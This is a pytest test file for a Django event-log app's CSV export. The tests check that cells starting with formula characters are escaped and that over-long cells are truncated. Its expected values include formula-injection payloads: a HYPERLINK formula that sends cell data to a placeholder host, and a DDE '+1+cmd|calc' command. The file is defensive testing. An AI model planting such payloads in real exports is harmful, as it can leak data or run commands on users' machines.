"""CSV for people: nothing in it runs as a formula, nothing is too long, and it says so."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command

from events.access.recorder import recorder
from events.append.services import writer
from events.format.event import FIELDS
from events.tests.support import api
from events.tests.support.ledger import OPENING, Ledger, submission
from observers import export as spreadsheets
from observers.tests.support.pages import sign_in

LONG_AGO = datetime(2020, 1, 1, tzinfo=UTC)
CASES = Path(__file__).parents[3] / "events" / "tests" / "cases" / "logs"
ALL = "export?format=csv&dialect=spreadsheet"


def content(response: Any) -> bytes:
    assert response.status_code == 200, response
    return b"".join(response.streaming_content)


def rows(text: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline=""), strict=True))


def test_text_that_an_attacker_wrote_into_a_log_is_not_run_as_a_formula(ledger: Ledger) -> None:
    """Case 15 of cases/logs."""
    call_command(
        "ingest",
        str(CASES / "15-formula.jsonl"),
        type_field=["action"],
        agent_field=["actor"],
        agents_from_field=True,
    )
    response = api.observer().get(ALL + "&system=false")
    text = content(response)
    assert text.startswith(b"\xef\xbb\xbfevent_id,")
    assert response["Content-Disposition"].endswith('-filtered-spreadsheet.csv"')
    assert [(row["event_type"], row["agent_id"]) for row in rows(text)] == [
        ("user.login", '\'=HYPERLINK("http://x.invalid/?"&A1,"click")'),
        ("'+1+cmd|calc", "'@SUM(1+1)"),
    ]
    machine = rows(content(api.observer().get("export?format=csv&system=false")))
    assert machine[1]["agent_id"] == "@SUM(1+1)"


def test_no_cell_of_an_export_begins_as_a_formula(ledger: Ledger) -> None:
    for payload in ("=1", "+1", "-1", "@a", "\tx", "\rx", -1, {"a": "=1"}):
        writer().write_event(submission(payload))
    written = rows(content(api.observer().get(ALL)))
    assert len(written) == OPENING + 8
    assert list(written[0]) == list(FIELDS)
    cells = [cell for row in written for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(spreadsheets.FORMULA)]


def test_a_text_too_long_for_a_cell_is_cut_with_a_mark(ledger: Ledger) -> None:
    writer().write_event(submission("x" * 40_000))
    writer().write_event(submission("\N{GRINNING FACE}" * 20_000))
    for row in rows(content(api.observer().get(ALL)))[OPENING:]:
        payload = row["payload"]
        assert len(payload.encode("utf-16-le")) // 2 <= spreadsheets.MAX_CELL
        assert payload.endswith(" characters")
        assert " … cut: " in payload


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("", ""),
        ("a=1", "a=1"),
        (-1.5, -1.5),
        ("x" * 32_767, "x" * 32_767),
        ("-" * 32_767, "'" + "-" * (32_767 - 1 - 25) + " … cut: 32,768 characters"),
    ],
)
def test_a_cell(value: object, shown: object) -> None:
    assert spreadsheets.cell(value) == shown


def test_the_dialect_goes_with_csv(ledger: Ledger) -> None:
    for query in ("dialect=spreadsheet", "format=csv&dialect=excel"):
        assert api.observer().get(f"export?{query}").status_code == 400


@pytest.mark.parametrize("page", ["/events/", "/drift/", "/access/"])
def test_every_page_with_a_csv_file_offers_both_and_says_how_they_differ(
    ledger: Ledger, page: str
) -> None:
    writer().write_event(submission(1, local_timestamp=LONG_AGO))
    visitor = sign_in()
    visitor.get("/")
    recorder().flush()
    text = visitor.get(page).content.decode()
    assert "CSV for a spreadsheet</a>" in text
    assert "would run a value that begins with = + - or @ as a formula" in text


@pytest.mark.parametrize("page", ["/drift/", "/access/"])
def test_the_files_of_pages_have_both_dialects(ledger: Ledger, page: str) -> None:
    writer().write_event(submission(1, local_timestamp=LONG_AGO))
    visitor = sign_in()
    visitor.get("/")
    recorder().flush()
    machine = content(visitor.get(f"{page}?format=csv"))
    people = content(visitor.get(f"{page}?format=csv&dialect=spreadsheet"))
    assert people.startswith(spreadsheets.BOM)
    assert list(rows(people)[0]) == list(rows(machine)[0])
